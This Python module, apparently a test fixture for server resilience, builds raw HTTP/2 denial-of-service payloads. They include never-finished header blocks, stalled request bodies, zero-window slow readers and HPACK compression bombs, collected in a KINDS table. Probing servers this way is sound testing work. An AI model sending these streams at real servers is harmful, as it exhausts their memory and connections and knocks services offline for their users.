"""Clients of HTTP/2 that take what they can get and finish nothing, frame by frame."""

import ssl
import struct

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, CONTINUATION = 0, 1, 4, 9
END_STREAM, END_HEADERS = 1, 4
WINDOW = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values: int) -> bytes:
    payload = b"".join(struct.pack(">HI", key, value) for key, value in ((WINDOW, values.get("window", 65535)),))
    return PREFACE + frame(SETTINGS, 0, 0, payload)


def head(size: int, path: str = "/", method: str = "GET", *, authority: bool = True) -> list[tuple[str, str]]:
    """A head whose fields take about so many bytes."""
    names = [(":method", method), (":scheme", "https"), (":path", path), *([(":authority", "web")] if authority else [])]
    return names + [(f"x-{index}", "a" * min(3900, size - index * 3900)) for index in range(-(-size // 3900)) if size > index * 3900]


def request(stream: int, block: bytes, *, ended: bool = True, finished: bool = True) -> bytes:
    """HEADERS and CONTINUATION; not `finished` is without the end of the head."""
    parts = [block[start : start + 16384] for start in range(0, len(block), 16384)] or [b""]
    found = b""
    for index, part in enumerate(parts):
        last = END_HEADERS if finished and index == len(parts) - 1 else 0
        found += frame(CONTINUATION if index else HEADERS, last | (END_STREAM if ended and not index else 0), stream, part)
    return found


def requests(count: int, fields: list[tuple[str, str]], *, ended: bool = True) -> bytes:
    """So many requests in one connection, each of all the fields."""
    encoder = hpack.Encoder()
    return b"".join(request(1 + 2 * index, encoder.encode(fields), ended=ended) for index in range(count))


def bomb(count: int, size: int, *, authority: bool = True) -> bytes:
    """The same in few bytes: one large field, stated once, and then by its place in the table of the connection."""
    large = ("x-bomb", "a" * 3900)
    encoder, found = hpack.Encoder(), b""
    for index in range(count):
        names = [(":method", "GET"), (":scheme", "https"), (":path", "/"), *([(":authority", "web")] if authority else [])]
        found += request(1 + 2 * index, encoder.encode(names + [large] * (size // 3950)))
    return found


KINDS: dict[str, bytes] = {
    "unfinished heads": settings() + request(1, hpack.Encoder().encode(head(60_000), huffman=False), finished=False),
    "unfinished bodies": settings() + requests(128, head(2000, method="POST"), ended=False),
    "bodies of large heads": settings() + requests(100, head(60_000, method="POST"), ended=False),
    "slow readers": settings(window=0) + requests(128, head(2000, "/bytes/30000000")),
    "bombs": settings(window=0) + bomb(128, 60_000),
    "bombs that are no requests": settings(window=0) + bomb(128, 60_000, authority=False),
}


def alpn(context: ssl.SSLContext) -> ssl.SSLContext:
    context.set_alpn_protocols(["h2"])
    return context
